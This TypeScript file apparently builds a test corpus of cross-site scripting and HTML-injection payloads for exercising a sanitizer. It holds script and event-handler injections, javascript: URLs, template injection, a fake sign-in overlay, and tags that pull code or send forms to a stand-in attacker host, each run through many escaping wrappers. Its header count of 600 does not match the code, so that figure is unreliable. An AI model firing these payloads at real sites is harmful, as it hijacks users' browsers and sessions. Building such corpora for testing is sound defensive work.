// 600 texts that would run, load or redirect something where a page took them for markup: sixty kinds, each in ten wrappings.

const RUN = 'window.__pwned=1'
const SINK = '//sink.evil.example'

const KINDS = [
  ...[`<script>${RUN}</script>`, `<script src=${SINK}/a.js></script>`, `<script type=module>${RUN}</script>`],
  ...[`<SCRIPT>${RUN}</SCRIPT>`, `<script\n>${RUN}</script\n>`, `<scr<script>ipt>${RUN}</scr</script>ipt>`],
  ...[
    `<img src=x onerror=${RUN}>`,
    `<img src=${SINK}/p.png>`,
    `<img/src=x/onerror=${RUN}>`,
    `<img srcset="${SINK}/s 2x">`,
  ],
  ...[`<svg onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`, `<svg><animate onbegin=${RUN} attributeName=x>`],
  ...[`<svg><use href="${SINK}/u.svg#x"/>`, `<svg><a xlink:href="javascript:${RUN}"><text y=9>x</text></a>`],
  ...[
    `<math><mi xlink:href="javascript:${RUN}">x</mi>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  ],
  ...[
    `<iframe srcdoc="<script>parent.__pwned=1</script>">`,
    `<iframe src="javascript:${RUN}">`,
    `<iframe src=${SINK}>`,
  ],
  ...[`<object data=${SINK}/o>`, `<embed src=${SINK}/e>`, `<applet code=${SINK}>`, `<frameset onload=${RUN}>`],
  ...[
    `<body onload=${RUN}>`,
    `<body background=${SINK}/b>`,
    `<input autofocus onfocus=${RUN}>`,
    `<select autofocus onfocus=${RUN}>`,
  ],
  ...[
    `<details open ontoggle=${RUN}>x</details>`,
    `<video><source onerror=${RUN}></video>`,
    `<audio src=x onerror=${RUN}>`,
  ],
  ...[`<video poster=${SINK}/v>`, `<marquee onstart=${RUN}>x</marquee>`, `<dialog open onclose=${RUN}>x</dialog>`],
  ...[
    `<a href="javascript:${RUN}">x</a>`,
    `<a href=" java\tscript:${RUN}">x</a>`,
    `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  ],
  ...[`<form action="${SINK}"><button>x</button></form>`, `<button formaction="javascript:${RUN}">x</button>`],
  ...[
    `<base href="${SINK}/">`,
    `<meta http-equiv=refresh content="0;url=${SINK}">`,
    `<link rel=stylesheet href=${SINK}/l.css>`,
  ],
  ...[`<link rel=prefetch href=${SINK}/f>`, `<style>@import '${SINK}/i.css'</style>`, `<style>*{display:none}</style>`],
  ...[`<div style="background:url(${SINK}/d)">x</div>`, `<p style="position:fixed;inset:0;z-index:9">Sign in again`],
  ...[
    `<template><script>${RUN}</script></template>`,
    `<noscript><img src=x onerror=${RUN}></noscript>`,
    `<xmp><img src=x onerror=${RUN}></xmp>`,
  ],
  ...[
    `<!--><img src=x onerror=${RUN}>-->`,
    `<![CDATA[<script>${RUN}</script>]]>`,
    `<?xml-stylesheet href="${SINK}/x.css"?>`,
  ],
  ...[`javascript:${RUN}//`, `[x](javascript:${RUN})`, `![x](${SINK}/m.png)`, `https:${SINK}/?q=1`],
  ...[`{{constructor.constructor('${RUN}')()}}`, `\${${RUN}}`, `<%= ${RUN} %>`, `\u003cimg src=x onerror=${RUN}\u003e`],
]

const WRAPPINGS: ((kind: string) => string)[] = [
  (kind) => kind,
  (kind) => `">${kind}`,
  (kind) => `'>${kind}<'`,
  (kind) => `</title></style></textarea></script>${kind}`,
  (kind) => `--></noscript></template>${kind}<!--`,
  (kind) => `\\"]);${kind}//\\u2028`,
  (kind) => `self.__next_f.push([1,"${kind}"])`,
  (kind) => `\u202E${kind}\u2066\u200B`,
  (kind) => kind.replaceAll('<', '&lt;').replaceAll('>', '&#62;'),
  (kind) => `x ${kind} `.repeat(2),
  (kind) => kind.replaceAll('<', '＜<').replaceAll('"', '\u0000"'.slice(1)).toUpperCase(),
]

/** Each once; all fit into a key. */
export const PAYLOADS: readonly string[] = [
  ...new Set(WRAPPINGS.flatMap((wrapped) => KINDS.slice(0, 60).map((kind) => wrapped(kind)))),
]
